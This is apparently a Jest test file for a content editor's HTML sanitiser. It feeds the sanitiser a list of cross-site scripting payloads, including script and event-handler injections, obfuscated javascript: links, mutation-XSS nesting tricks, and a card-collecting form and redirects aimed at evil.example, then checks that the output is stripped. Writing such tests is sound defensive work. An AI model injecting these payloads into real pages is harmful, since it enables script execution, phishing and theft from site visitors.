import { describe, expect, it } from '@jest/globals';
import { htmlText, isSanitary, sanitiseHtml } from './sanitise-html.ts';

/** Content that no editor may send, nor a thief of an editor's password. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<ScRiPt src=//evil.example/x.js></ScRiPt>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<p onclick="alert(1)">x</p>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="vbscript:x">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<form action="https://evil.example"><input name="card"></form>',
  '<style>body { background: url(https://evil.example) }</style>',
  '<p style="position:fixed;inset:0">x</p>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<p id="content" class="button">x</p>',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<<script>alert(1)//<</script>',
];

describe('HTML of an editor', () => {
  it.each(HOSTILE)('[CT-07] loses unsafe parts: %s', (html) => {
    const safe = sanitiseHtml(html);
    expect(safe).not.toMatch(
      /<\/?(?:script|img|svg|iframe|object|embed|form|input|style|link|meta|base|math|noscript)\b/i,
    );
    expect(safe).not.toMatch(/<[^>]*\s(?:on\w+|style|id|class|src)\s*=/i);
    expect(safe).not.toMatch(/href="\s*(?:javascript|vbscript|data):|href="[/\\]{2}/i);
  });

  it.each(HOSTILE.filter((html) => !html.startsWith('<!--')))('[CT-07] is not sanitary: %s', (html) => {
    expect(isSanitary(html)).toBe(false);
  });

  it('[CT-07] is sanitary when nothing would be lost', () => {
    expect(
      isSanitary(
        '<h1>Titre</h1><p>Un <b>mot</b>, <a href="https://example.org/">un lien</a> &amp; 3 < 4</p>',
      ),
    ).toBe(true);
  });

  it('[CT-07] preserves text, lists, tables and links', () => {
    const html =
      '<h2>Titre</h2><p>Un <strong>mot</strong>, <a href="/nos-usines">un lien</a>.</p>' +
      '<ul><li>un</li></ul><table><tbody><tr><th scope="row">a</th><td colspan="2">b</td></tr></tbody></table>';
    expect(sanitiseHtml(html)).toBe(html);
  });

  it.each([
    ['https://example.org/a', '<a href="https://example.org/a" rel="noopener">x</a>'],
    ['mailto:a@b.example', '<a href="mailto:a@b.example">x</a>'],
    ['tel:+33199000000', '<a href="tel:+33199000000">x</a>'],
    ['#bas', '<a href="#bas">x</a>'],
  ])('[CT-07] a link to %s stays, without access to its opener', (href, expected) => {
    expect(sanitiseHtml(`<a href="${href}" target="_blank" rel="opener">x</a>`)).toBe(expected);
  });

  it('demotes first-level headings: the page has its own', () => {
    expect(sanitiseHtml('<h1>Titre</h1>')).toBe('<h2>Titre</h2>');
  });

  it('is searched by its text', () => {
    expect(htmlText('<p>Un <b>mot</b><script>x</script></p>')).toBe('Un mot');
  });
});
